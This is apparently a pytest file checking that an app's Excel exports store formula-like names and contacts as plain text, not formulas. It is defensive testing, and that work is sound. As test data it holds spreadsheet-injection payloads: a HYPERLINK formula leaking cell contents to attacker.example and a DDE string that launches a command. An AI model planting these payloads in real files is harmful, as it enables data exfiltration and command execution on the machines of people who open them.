"""Every workbook the app writes keeps formula-like text as text (issue 16, point 4).

A name such as `=HYPERLINK(...)` typed into the app is stored as typed; each workbook written from it
is opened here and every cell holding stored text must be a text cell, never a formula.
"""

from __future__ import annotations

import datetime as dt

from openpyxl import load_workbook

from clustermanager.cli import main as cli
from clustermanager.services import activities
from clustermanager.services import members as svc

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
EVIL_CONTACT = "+cmd|' /C calc'!A0"


def _formula_cells(path):
    """(sheet, cell, text) of every formula cell that is not one the app writes itself (totals)."""
    found = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not str(cell.value).startswith(("=SUM(", "=SUBTOTAL(", "=IF(")):
                    found.append((ws.title, cell.coordinate, cell.value))
    return found


def _texts(path) -> set:
    return {c for ws in load_workbook(path, read_only=True) for row in ws.iter_rows(values_only=True) for c in row}


def test_no_workbook_turns_stored_text_into_a_formula(db, tmp_path, capsys):
    with db.session() as s:
        m = svc.create_member(s, svc.MemberInput(name=EVIL, kind="company", joined_on=dt.date(2020, 1, 1)))
        svc.add_contact(s, m.id, svc.ContactInput(first_name=EVIL_CONTACT, last_name="@SUM(1+1)",
                                                  email="ann@example.org"))
        activities.create_activity(s, activities.ActivityInput(kind="workshop", title="-2+3",
                                                               starts_on=dt.date(2025, 3, 1)))
    base = ["--db", str(db.path)]
    written = {
        "exchange": (["export", "workbook"], tmp_path / "exchange.xlsx"),
        "report": (["report", "--period", "2025", "--xlsx"], tmp_path / "report.xlsx"),
        "privacy": (["privacy", "export", "ann@example.org", "--out"], tmp_path / "person.xlsx"),
    }
    for name, (argv, path) in written.items():
        assert cli([*base, *argv, str(path)]) == 0, f"{name}: {capsys.readouterr().err}"
        assert _formula_cells(path) == [], name
    assert EVIL in _texts(tmp_path / "exchange.xlsx")
    person = _texts(tmp_path / "person.xlsx")
    assert f"{EVIL_CONTACT} @SUM(1+1)" in person and EVIL in person
    # the refused-rows workbook of a member import repeats the file's own cells
    sheet = tmp_path / "in.csv"
    sheet.write_text(f"Name;Kind;Joined\n{EVIL};nonsense;2020-01-01\n", encoding="utf-8")
    report = tmp_path / "refused.xlsx"
    cli([*base, "import", "members", str(sheet), "--error-report", str(report)])
    assert report.exists(), capsys.readouterr().err
    assert _formula_cells(report) == [] and EVIL in _texts(report)
